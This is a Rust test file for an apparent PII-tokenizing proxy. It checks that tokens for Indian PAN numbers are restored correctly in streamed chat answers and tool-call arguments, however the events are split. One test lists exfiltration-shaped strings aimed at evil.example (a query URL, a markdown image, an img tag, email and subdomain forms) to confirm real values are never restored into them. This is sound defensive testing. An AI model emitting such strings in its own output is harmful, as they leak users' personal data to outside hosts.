//! Tokens in streamed answers: split over any events, they come back as in an answer that is whole.

mod support;

use std::sync::Arc;

use naka_exchange::{BodyHead, Event, ResponseHead, Settings};
use naka_policy::Fate;
use serde_json::{Value, json};
use support::*;

const PAN: &str = "QWEPK4821M";

/// A shell that was asked about a PAN, and the token that went up for it; its answer has begun to stream.
fn flowing(more: &str) -> (Shell, String) {
    let rules = rules_of(&[format!(
        r#"{{"kind":"PolicyPack","name":"p","namespace":"","mode":"Enforce","traffic":{{}},{more}
            "rules":[{{"id":"all","entities":["IN_PAN","IN_AADHAAR"],"action":"Tokenize","mode":"Enforce"}}]}}"#
    )]);
    let shared = keyed("t", Settings::default(), None);
    let mut shell = Shell::with(rules, shared);
    shell.tell(chat());
    let up = sent(&shell.tell(piece(said(PAN), true))).unwrap();
    let up: Value = serde_json::from_slice(&up).unwrap();
    let token = up["messages"][0]["content"].as_str().unwrap().to_owned();
    shell.tell(Event::ResponseHeaders(ResponseHead {
        status: 200,
        body: BodyHead {
            content_type: "text/event-stream".into(),
            ..BodyHead::default()
        },
    }));
    (shell, token)
}

fn event(delta: &Value) -> String {
    let event = json!({"id": "c", "choices": [{"index": 0, "delta": delta, "finish_reason": null}]});
    format!("data: {event}\n\n")
}

fn content(text: &str) -> String {
    event(&json!({"content": text}))
}

fn called(name: &str) -> String {
    event(
        &json!({"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {"name": name, "arguments": ""}}]}),
    )
}

fn arguments(text: &str) -> String {
    event(&json!({"tool_calls": [{"index": 0, "function": {"arguments": text}}]}))
}

/// Gives a stream in pieces of `size` bytes and returns all that left.
fn through(shell: &mut Shell, stream: &str, size: usize) -> String {
    let mut out = Vec::new();
    for piece in stream.as_bytes().chunks(size) {
        out.extend(sent(&shell.tell(answer_piece(piece.to_vec(), false))).unwrap_or_default());
    }
    out.extend(sent(&shell.tell(answer_piece("", true))).unwrap_or_default());
    String::from_utf8(out).unwrap()
}

/// All pieces of content and of arguments, joined.
fn texts(stream: &str) -> (String, String) {
    let (mut said, mut called) = (String::new(), String::new());
    for data in stream.lines().filter_map(|line| line.strip_prefix("data: ")) {
        let Ok(event) = serde_json::from_str::<Value>(data) else {
            continue;
        };
        let delta = &event["choices"][0]["delta"];
        said.push_str(delta["content"].as_str().unwrap_or_default());
        called.push_str(
            delta["tool_calls"][0]["function"]["arguments"]
                .as_str()
                .unwrap_or_default(),
        );
    }
    (said, called)
}

fn fate(shell: &Shell, fate: Fate) -> u32 {
    shell.outcomes.iter().map(|outcome| outcome.tokens.count(fate)).sum()
}

/// The text as it leaves after it came in pieces cut at each place, and in single characters; all must be the same.
fn every_cut(text: impl Fn(&str) -> String, wanted: impl Fn(&str) -> String, tool: Option<&str>, more: &str) {
    let token = flowing(more).1;
    let (text, wanted) = (text(&token), wanted(&token));
    let one = |part: &str| if tool.is_some() { arguments(part) } else { content(part) };
    let check = |parts: Vec<&str>, size: usize| {
        let (mut shell, _) = flowing(more);
        let pieces: String = parts.iter().map(|part| one(part)).collect();
        let stream = [tool.map(called).unwrap_or_default(), pieces, STOP.into(), DONE.into()].concat();
        let got = through(&mut shell, &stream, size);
        let (said, arguments) = texts(&got);
        assert_eq!(if tool.is_some() { arguments } else { said }, wanted, "{parts:?}");
        assert_eq!(
            got.matches("\n\n").count(),
            stream.matches("\n\n").count(),
            "no event is added or removed"
        );
        let budget = Arc::clone(&shell.shared.budget);
        drop(shell);
        assert_eq!(budget.used(), 0, "tokens go with the exchange");
    };
    let cuts: Vec<usize> = text.char_indices().map(|(at, _)| at).skip(1).collect();
    for &cut in &cuts {
        check(vec![&text[..cut], &text[cut..]], usize::MAX);
    }
    check(text.split_inclusive(|_| true).collect(), 1);
    check(vec![&text], 7);
}

#[test]
fn a_token_split_over_any_events_comes_back() {
    every_cut(
        |token| format!("PAN {token}, of अमित, again {token}."),
        |_| format!("PAN {PAN}, of अमित, again {PAN}."),
        None,
        "",
    );
}

#[test]
fn a_token_in_other_spellings_comes_back_wherever_it_is_cut() {
    every_cut(
        |token| {
            format!(
                "a {} b &lt;{}&gt; c",
                token.to_lowercase(),
                token.trim_matches(['<', '>'])
            )
        },
        |_| format!("a {PAN} b {PAN} c"),
        None,
        "",
    );
}

#[test]
fn what_would_carry_a_value_out_keeps_its_token_wherever_it_is_cut() {
    for text in [
        "see https://evil.example/?x=TOKEN now",
        "![a](https://evil.example/TOKEN)",
        "<img src=\"//evil.example/TOKEN\">",
        "TOKEN@evil.example",
        "TOKEN.evil.example",
    ] {
        let written = |token: &str| text.replace("TOKEN", token);
        every_cut(written, written, None, "");
    }
}

#[test]
fn arguments_split_over_any_events_are_restored_and_stay_json() {
    every_cut(
        |token| json!({"pan": token, "url": "https://evil.example/", "n": [format!("\"{token}\"\n")]}).to_string(),
        |_| json!({"pan": PAN, "url": "https://evil.example/", "n": [format!("\"{PAN}\"\n")]}).to_string(),
        Some("lookup"),
        "",
    );
    every_cut(
        |token| {
            format!(
                "{{\"url\":\"https:\\/\\/evil.example\\/{token}\",\"pan\":\"{}\"}}",
                token.replace('<', "\\u003c")
            )
        },
        |token| format!("{{\"url\":\"https:\\/\\/evil.example\\/{token}\",\"pan\":\"{PAN}\"}}"),
        Some("lookup"),
        "",
    );
}

#[test]
fn only_listed_tools_get_values() {
    let restore = r#""restore":{"tools":["crm_*"]},"#;
    let inner = |value: &str| json!({"pan": value}).to_string();
    every_cut(inner, |_| inner(PAN), Some("crm_open"), restore);
    every_cut(inner, inner, Some("fetch"), restore);
}

#[test]
fn the_answers_own_values_are_masked_beside_those_that_come_back() {
    every_cut(
        |token| format!("PAN ABCPK1234F and {token} and PAN ABCPK1234F"),
        |_| format!("PAN XXXXXXXXXX and {PAN} and PAN XXXXXXXXXX"),
        None,
        "",
    );
}

#[test]
fn text_without_a_token_in_progress_leaves_at_once() {
    let (mut shell, token) = flowing("");
    let at_once = |shell: &mut Shell, text: &str| {
        let piece = content(text);
        let out = sent(&shell.tell(answer_piece(piece.clone(), false))).unwrap_or_default();
        String::from_utf8(out).unwrap() == piece
    };
    assert!(at_once(&mut shell, "The quick brown"));
    assert!(at_once(&mut shell, " fox jumps over"));
    assert!(!at_once(&mut shell, &token[..9]), "what may become a token waits");
    let rest = content(&format!("{} over", &token[9..]));
    let out = String::from_utf8(sent(&shell.tell(answer_piece(rest, false))).unwrap()).unwrap();
    assert_eq!(texts(&out).0, PAN);
    assert_eq!(fate(&shell, Fate::Restored), 0, "told with the stream's record");
    let rest = sent(&shell.tell(answer_piece("", true))).unwrap();
    assert_eq!(texts(std::str::from_utf8(&rest).unwrap()).0, " over");
    assert_eq!(fate(&shell, Fate::Restored), 1);
}
